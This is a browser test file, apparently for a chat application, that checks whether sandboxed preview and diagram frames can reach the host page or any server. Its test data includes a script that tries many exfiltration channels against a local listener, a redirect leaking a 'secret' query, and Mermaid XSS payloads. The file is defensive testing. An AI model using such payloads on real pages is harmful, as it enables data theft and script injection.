/** Pages in frames: what a model wrote runs apart from ours and reaches nobody (SECURITY.md 5). */
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { PNG } from "../pictures.ts";
import { type Bowl, browserTest, visits } from "./harness.ts";
import { becomes, eventually } from "./steps.ts";

const visit = visits();

/** A conversation in which an agent said `content`; its address. */
async function said(bowl: Bowl, content: string): Promise<string> {
  await bowl.conversation({ Echo: "echo" });
  const { conversation_id } = await bowl.api<{ conversation_id: string }>("POST", "/v1/chat/completions", {
    model: "agent/echo",
    messages: [
      { role: "user", content: "Show me." },
      { role: "assistant", content },
      { role: "user", content: "Thank you." },
    ],
  });
  return `/c/${conversation_id}`;
}

/** A machine that nothing in a frame should reach; what came is counted. */
function machine() {
  const came: string[] = [];
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  void (async () => {
    for await (const connection of listener) {
      came.push("connected");
      connection.close();
    }
  })().catch(() => {});
  const { port } = listener.addr;
  return { came, port, [Symbol.dispose]: () => listener.close() };
}

/** Every way out that a page has. Each says what came of it in the frame's own words. */
const waysOut = (port: number, ours: string) =>
  `<!doctype html><body><ul id="said"></ul><script>
const said = [];
const tell = (name, how) => {
  said.push(name + " " + how);
  document.getElementById("said").insertAdjacentHTML("beforeend", "<li>" + name + " " + how);
};
const tries = (name, run) => {
  try {
    Promise.resolve(run()).then(() => tell(name, "went"), () => tell(name, "failed"));
  } catch { tell(name, "failed"); }
};
const there = "//127.0.0.1:${port}/";
tries("parent", () => parent.document.title);
tries("top", () => top.document.title);
tries("leads-us-away", () => { top.location = "http:" + there; });
tries("storage", () => localStorage.length);
tries("cookies", () => document.cookie);
tries("fetch", () => fetch("http:" + there, { mode: "no-cors" }));
tries("our-server", () => fetch("${ours}/api/conversations"));
tries("xhr", () => new Promise((done, failed) => {
  const request = new XMLHttpRequest();
  request.onload = done;
  request.onerror = failed;
  request.open("GET", "http:" + there);
  request.send();
}));
tries("socket", () => new Promise((done, failed) => {
  const socket = new WebSocket("ws:" + there);
  socket.onopen = done;
  socket.onerror = failed;
}));
tries("picture", () => new Promise((done, failed) => {
  const picture = new Image();
  picture.onload = done;
  picture.onerror = failed;
  picture.src = "http:" + there;
}));
tries("script", () => new Promise((done, failed) => {
  const script = document.createElement("script");
  script.onload = done;
  script.onerror = failed;
  script.src = "http:" + there;
  document.head.append(script);
}));
tries("worker", () => new Promise((done, failed) => {
  const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
  worker.onmessage = done;
  worker.onerror = failed;
}));
tries("eval", () => eval("1"));
tries("window", () => window.open("http:" + there) ?? Promise.reject());
// What tells nothing of itself is seen by the machine, if it gets there.
for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "prerender", "stylesheet", "icon"]) {
  const link = document.createElement("link");
  link.rel = rel;
  link.href = "http:" + there + rel;
  document.head.append(link);
}
navigator.sendBeacon("http:" + there, "x");
new EventSource("http:" + there);
const form = document.createElement("form");
form.action = "http:" + there;
document.body.append(form);
form.submit();
const nested = document.createElement("iframe");
nested.srcdoc = "<script>fetch('http:" + there + "'); location = 'http:" + there + "'<\\/script>";
document.body.append(nested);
const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:${port}?transport=tcp", username: "a", credential: "b" }] });
peer.createDataChannel("a");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>`;

const WAYS = [
  "parent",
  "top",
  "leads-us-away",
  "storage",
  "cookies",
  "fetch",
  "our-server",
  "xhr",
  "socket",
  "picture",
  "script",
  "worker",
  "eval",
  "window",
];

async function preview(page: Page): Promise<void> {
  await page.getByRole("button", { name: "Preview" }).first().click();
  await page.locator(".code-preview iframe").waitFor();
}

/** A frame that never ends holds up the process of other frames, in whichever tab of a window. */
const ALONE = { alone: true };

browserTest("a preview runs its script, and that reaches neither our page nor any machine", async (bowl) => {
  using elsewhere = machine();
  const path = await said(bowl, `\`\`\`html\n${waysOut(elsewhere.port, bowl.address)}\n\`\`\``);
  const page = await bowl.tab(await bowl.context(ALONE), path);
  await preview(page);
  const frame = page.frameLocator(".code-preview iframe");
  for (const way of WAYS) await frame.getByText(`${way} failed`).waitFor();
  await becomes(() => frame.locator("li", { hasText: "went" }).allInnerTexts(), []);
  assert.deepEqual(elsewhere.came, []);
  assert.equal(page.url(), bowl.address + path);
  const sandbox = await page.locator(".code-preview iframe").getAttribute("sandbox");
  assert.equal(sandbox, "allow-scripts");
  // The refusals were of the frame's policy, which is what was asked.
  bowl.faults.splice(0);
});

browserTest(
  "a preview that leads itself elsewhere gets nowhere, and one that never ends holds up no answer",
  async (bowl) => {
    using elsewhere = machine();
    const path = await said(
      bowl,
      `\`\`\`html\n<script>location = "http://127.0.0.1:${elsewhere.port}/?secret"</script>\n\`\`\`\n\n\`\`\`html\n<p>runs</p><script>for (;;);</script>\n\`\`\``,
    );
    const page = await bowl.tab(await bowl.context(ALONE), path);
    await preview(page);
    await page.getByRole("button", { name: "Preview" }).nth(1).click();
    await page.getByRole("textbox", { name: "Message", exact: true }).fill("still here");
    await page.getByRole("button", { name: "Preview" }).nth(1).click();
    await becomes(() => page.locator(".code-preview iframe").count(), 1);
    assert.deepEqual(elsewhere.came, []);
    bowl.faults.splice(0);
  },
);

visit("frames stand in our page alone, and listen to nobody else", async (bowl) => {
  const policies = new Map<string, string>();
  for (const name of ["mermaid", "preview", "picture"]) {
    const response = await fetch(`${bowl.address}/frame/${name}`);
    await response.body?.cancel();
    assert.equal(response.status, 200, name);
    policies.set(name, response.headers.get("content-security-policy") ?? "");
    assert.match(
      policies.get(name) ?? "",
      /^sandbox allow-scripts; default-src 'none'; .*frame-ancestors 'self'$/,
    );
  }
  assert.equal((await fetch(`${bowl.address}/frame/nothing`)).status, 404);
  // By itself, with words from whoever opened it: it shows none of them.
  const page = await bowl.tab((await bowl.open()).context(), "/frame/preview");
  await page.evaluate(() => postMessage({ page: "<h1>Shown</h1>" }, "*"));
  await page.evaluate(() => new Promise((done) => setTimeout(done)));
  await becomes(() => page.locator("h1").count(), 0);
  await becomes(() => page.evaluate(() => self.origin), "null");
});

browserTest(
  "what draws diagrams draws no script, and a diagram that would is shown without it",
  async (bowl) => {
    const path = await said(
      bowl,
      [
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%',
        "flowchart LR",
        '  A["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]',
        "  click A call alert(1)",
        '  click B "javascript:alert(1)"',
      ].join("\n").replace(/^/, "```mermaid\n").concat("\n```"),
    );
    const page = await bowl.tab(await bowl.context(ALONE), path);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.locator(".diagram > img").waitFor();
    const drawn = decodeURIComponent(await page.locator(".diagram > img").getAttribute("src") ?? "");
    assert.ok(!/<script|onerror|javascript:|<foreignObject|<img|onclick/i.test(drawn), drawn);
    assert.deepEqual(dialogs, []);
    // Where it measures words it makes elements of them, and the frame's policy keeps those from running anything.
    assert.ok(
      bowl.faults.every((fault) => fault.startsWith("Executing inline event handler")),
      bowl.faults.join(),
    );
    bowl.faults.splice(0);
  },
);

visit(
  "a picture from elsewhere is loaded when it is asked for, once, without a word of where it is shown",
  async (bowl) => {
    const asked: (string | undefined)[] = [];
    const path = await said(
      bowl,
      "![Latency](https://pictures.example/a.png)\n\n![b](http://plain.example/b.png)",
    );
    const page = await bowl.open(path);
    await page.context().route("https://pictures.example/**", async (route) => {
      asked.push(route.request().headers()["referer"]);
      await route.fulfill({ contentType: "image/png", body: Buffer.from(PNG) });
    });
    const row = page.locator(".remote").first();
    await row.getByText("Picture not loaded").waitFor();
    await becomes(() => row.locator(".host").innerText(), "pictures.example");
    assert.deepEqual(asked, []);
    await becomes(() => page.getByRole("button", { name: "Load once" }).count(), 1, "never over plain http");
    await row.getByRole("button", { name: "Load once" }).click();
    await eventually(() => Promise.resolve(assert.deepEqual(asked, [undefined])));
    await eventually(async () =>
      assert.match(await row.locator("iframe").getAttribute("style") ?? "", /aspect-ratio: 1 \/ 1/)
    );
  },
);
